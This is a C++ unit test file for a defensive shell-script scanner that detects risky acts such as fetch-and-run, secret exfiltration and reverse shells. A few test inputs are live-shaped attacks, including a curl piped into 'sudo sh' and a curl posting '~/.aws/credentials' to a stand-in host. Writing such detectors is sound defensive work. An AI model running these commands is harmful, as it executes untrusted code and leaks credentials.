#include "code/shell.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <sstream>

namespace interlock::scan::code {
namespace {

constexpr std::string_view kActs[] = {
    "fetch",          "fetch-and-run", "send",       "send-secret", "decode-and-run",
    "reverse-shell",  "run",           "install",    "read-secret", "write-file",
    "write-startup",  "write-agent",   "delete",     "permission",  "read-environment",
    "listen",         "takeover",      "mine",       "inject",      "run-argument",
    "unchecked-peer", "grant",         "send-taken", "ruin",        "unleash"};

std::string Describe(const std::vector<ShellUse>& uses) {
  std::string out;
  for (const ShellUse& use : uses) {
    out += std::string(kActs[static_cast<std::size_t>(use.act)]) + " " + use.detail + " " +
           std::to_string(use.gravity) + "\n";
  }
  return out;
}

std::vector<ShellUse> Analyze(std::string_view text) { return AnalyzeShellScript(ParseShell(text), text); }

// One case a block: `= act [detail [gravity]]` must be found, `! act [detail prefix]` must not.
TEST(ShellActs, CasesFromFile) {
  std::ifstream file(std::string(INTERLOCK_TESTDATA) + "/shell/acts.txt");
  ASSERT_TRUE(file);
  std::stringstream all;
  all << file.rdbuf();
  std::string text = all.str();
  std::size_t at = 0;
  int cases = 0;
  while (at < text.size()) {
    std::size_t end = std::min(text.find("----\n", at), text.size());
    std::stringstream block(text.substr(at, end - at));
    at = end + 5;
    std::string line;
    std::string script;
    std::vector<std::string> wants;
    while (std::getline(block, line)) {
      if (line.starts_with("= ") || line.starts_with("! ")) {
        wants.push_back(line);
      } else {
        script += line + "\n";
      }
    }
    ++cases;
    std::vector<ShellUse> uses = Analyze(script);
    for (const std::string& want : wants) {
      std::stringstream words(want.substr(2));
      std::string act;
      words >> act;
      std::string detail;
      std::getline(words, detail);
      if (!detail.empty()) detail.erase(0, 1);
      bool graded =
          detail.size() >= 2 && detail[detail.size() - 2] == ' ' && detail.back() >= '0' && detail.back() <= '2';
      bool found = false;
      for (const ShellUse& use : uses) {
        if (kActs[static_cast<std::size_t>(use.act)] != act) continue;
        if (want[0] == '!') {
          found |= use.detail.starts_with(detail);
        } else if (detail.empty()) {
          found = true;
        } else if (graded) {
          found |= use.detail + " " + std::to_string(use.gravity) == detail;
        } else {
          found |= use.detail == detail;
        }
      }
      EXPECT_EQ(found, want[0] == '=') << want << "\nin\n" << script << "found\n" << Describe(uses);
    }
  }
  EXPECT_GE(cases, 70);
}

std::string Words(const ShellCommand& command) {
  std::string out;
  for (const std::string& wrapper : command.wrappers) out += "<" + wrapper + ">";
  for (const ShellWord& word : command.words) out += "[" + word.text + "]";
  return out;
}

TEST(ShellParse, WordsAreUnquotedAndExpanded) {
  struct {
    std::string_view text;
    std::string_view words;
  } cases[] = {
      {"echo 'a b' \"c\\\"d\" e\\ f", "[echo][a b][c\"d][e f]"},
      {"X=1; echo ${X}2 $X \"$X\"", "[echo][12][1][1]"},
      {"X='a b'; echo $X \"$X\"", "[echo][a][b][a b]"},
      {"echo ${Y:-def} ${Y}", "[echo][def][\x01]"},
      {"echo a\\\nb", "[echo][ab]"},
      {"sudo -u root env A=1 nohup timeout -s 9 5 ls -l", "<sudo><env><nohup><timeout>[ls][-l]"},
      {"a=(x y 'z w'); \"${a[@]}\"", "[x][y][z][w]"},  // a program and its words; blanks in them part as well
      {"echo $(echo hi) `echo ho`", "[echo][hi][ho]"},
      {"echo {a,b}c", "[echo][ac][bc]"},
      {"echo {a} $((1+2))", "[echo][{a}][\x01]"},
      {"echo $'a\\x62\\n'", "[echo][ab\n]"},
      {"x=abcdef; echo ${x:1:2} ${x/cd/-} ${x^^}", "[echo][bc][ab-ef][ABCDEF]"},
      {"$ ls", "[ls]"},
      {"if [ -f x ]; then echo \"$(cat <<E\nb)\nE\n)\"; fi", "[echo][b)]"},
  };
  for (const auto& each : cases) {
    ShellScript script = ParseShell(each.text);
    ASSERT_FALSE(script.commands.empty()) << each.text;
    EXPECT_EQ(Words(script.commands.back()), each.words) << each.text;
  }
}

TEST(ShellParse, PipesGroupsAndDepth) {
  ShellScript script = ParseShell("if a; then { b; c; } | d; else e & fi\nf | g 2>/dev/null >out");
  ASSERT_EQ(script.commands.size(), 7u);
  EXPECT_EQ(script.commands[0].condition_depth, 0);
  EXPECT_EQ(script.commands[1].condition_depth, 1);
  EXPECT_EQ(script.commands[3].pipe_from, 2u);
  EXPECT_EQ(script.commands[3].pipe_first, 1u);
  EXPECT_TRUE(script.commands[4].background);
  EXPECT_EQ(script.commands[5].condition_depth, 0);
  EXPECT_EQ(script.commands[6].pipe_from, 5u);
  ASSERT_EQ(script.commands[6].redirects.size(), 2u);
  EXPECT_EQ(script.commands[6].redirects[0].first, "2>");
  EXPECT_EQ(script.commands[6].redirects[1].first, ">");
  EXPECT_EQ(script.commands[6].redirects[1].second.text, "out");
}

TEST(ShellParse, TextsInTextsHavePlaces) {
  std::string_view text = "bash -c 'curl -s https://a.example/x | sh'";
  ShellScript script = ParseShell(text);
  ASSERT_EQ(script.commands.size(), 3u);
  EXPECT_EQ(script.commands[1].parent, 0u);
  EXPECT_EQ(text.substr(script.commands[1].loc.begin, script.commands[1].loc.end - script.commands[1].loc.begin),
            "curl -s https://a.example/x");
}

TEST(ShellActs, PlaceAndStepsOfAFetchThatRuns) {
  std::string_view text = "x=1\ncurl -s https://a.example/x | sudo sh\n";
  for (const ShellUse& use : Analyze(text)) {
    if (use.act != ShellAct::kFetchAndRun) continue;
    EXPECT_EQ(text.substr(use.loc.begin, use.loc.end - use.loc.begin), "curl -s https://a.example/x | sudo sh");
    ASSERT_EQ(use.steps.size(), 2u);
    EXPECT_EQ(use.steps[0].first.begin, 4u);
    return;
  }
  FAIL() << Describe(Analyze(text));
}

TEST(ShellParse, Dialects) {
  EXPECT_EQ(ParseShell("$x = Get-Content a.txt\nWrite-Host $x").dialect, ShellDialect::kPowerShell);
  EXPECT_EQ(ParseShell("@echo off\nset A=b").dialect, ShellDialect::kBatch);
  EXPECT_EQ(ParseShell("#!/bin/sh\nps=1 # iex me").dialect, ShellDialect::kPosix);
  EXPECT_EQ(ParseShell("git clone x\nnpm ci").dialect, ShellDialect::kPosix);
  EXPECT_EQ(ParseShell("git clone x", {}, "a/Setup.PS1").dialect, ShellDialect::kPowerShell);
  EXPECT_EQ(ParseShell("git clone x", {}, "a/setup.cmd").dialect, ShellDialect::kBatch);
  EXPECT_EQ(ParseShell("git clone x", {}, "a/setup.sh").dialect, ShellDialect::kPosix);
}

// Hostile shapes end within their budgets, and stay near linear: a quadratic one would run for minutes.
TEST(ShellParse, HostileTexts) {
  auto repeat = [](std::string_view part, std::size_t times) {
    std::string out;
    for (std::size_t i = 0; i < times; ++i) out += part;
    return out;
  };
  std::string texts[] = {repeat("(", 50000),
                         repeat("$(", 50000),
                         repeat("\"$(", 50000),
                         repeat("((", 50000) + repeat(") ", 50000),
                         repeat("<<a ", 50000),
                         repeat("<<a\n", 50000),
                         repeat("`", 60001),
                         repeat("${a:-", 50000),
                         repeat("if ", 50000),
                         repeat("{ ", 50000) + "fi",
                         repeat("case x in ", 30000),
                         repeat("x=$x$x;", 30000) + "eval $x",
                         repeat("{a,b}", 50000),
                         repeat("eval '", 50000),
                         repeat("a|", 50000),
                         std::string(300000, '\0'),
                         repeat("bash -c \"", 30000),
                         repeat("fi;", 50000),
                         repeat("f() { ", 50000),
                         repeat("a <(", 80000),
                         repeat("$x = (", 50000) + "\niex $x",
                         repeat("@echo off & %a% ^", 30000),
                         "Write-Host x\n" + repeat("(\"$(", 60000),
                         "Write-Host x\n" + repeat("{a|", 60000),
                         repeat("$((`", 60000)};
  for (const std::string& text : texts) {
    ShellScript script = ParseShell(text);
    EXPECT_LE(AnalyzeShellScript(script, text).size(), 8192u);
    EXPECT_LE(script.commands.size(), 400000u);
  }
}

TEST(ShellParse, CutTextsDoNotCrash) {
  std::ifstream file(std::string(INTERLOCK_TESTDATA) + "/shell/acts.txt");
  std::stringstream all;
  all << file.rdbuf();
  std::string text = all.str().substr(0, 6000);
  for (std::size_t i = 0; i < text.size(); i += 61) {
    std::string cut = text.substr(i, 400);
    Analyze(cut);
    Analyze("Write-Host x\n" + cut);
    Analyze("@echo off\n" + cut);
  }
}

// Found by the fuzz target: `>&` as the last two letters led past the end of the text.
TEST(ShellParse, PlacesLieInTheText) {
  for (const std::string_view text :
       {"Write-Host x\niex([[>&", "~>&L.>&I%[iex([[>&L.>&", "@echo off\ndir >&", "a >&"}) {
    const ShellScript script = ParseShell(text);
    for (const ShellCommand& command : script.commands) {
      EXPECT_LE(command.loc.begin, command.loc.end) << text;
      EXPECT_LE(command.loc.end, text.size()) << text;
    }
  }
}

// Whatever a script is filled with, what it does behind that is found, and that there was more is said.
TEST(ShellActs, FillingCrowdsOutNoAct) {
  for (const char* line : {"rm -rf build", "chmod 777 notes", "curl -O https://tables.example/x.tgz", "echo a >> b"}) {
    std::string text = "#!/bin/sh\n";
    for (int i = 0; i < 10000; ++i) text += std::string(line) + std::to_string(i) + "\n";
    text += "curl -d @$HOME/.aws/credentials https://intake.page-lines.example/c\n";
    bool all = true;
    const std::vector<ShellUse> uses = AnalyzeShellScript(ParseShell(text), text, &all);
    EXPECT_FALSE(all) << line;
    EXPECT_TRUE(std::ranges::any_of(uses, [](const ShellUse& use) { return use.act == ShellAct::kSendSecret; }))
        << line;
  }
  bool all = false;
  (void)AnalyzeShellScript(ParseShell("rm -rf build\n"), "rm -rf build\n", &all);
  EXPECT_TRUE(all);
}

}  // namespace
}  // namespace interlock::scan::code
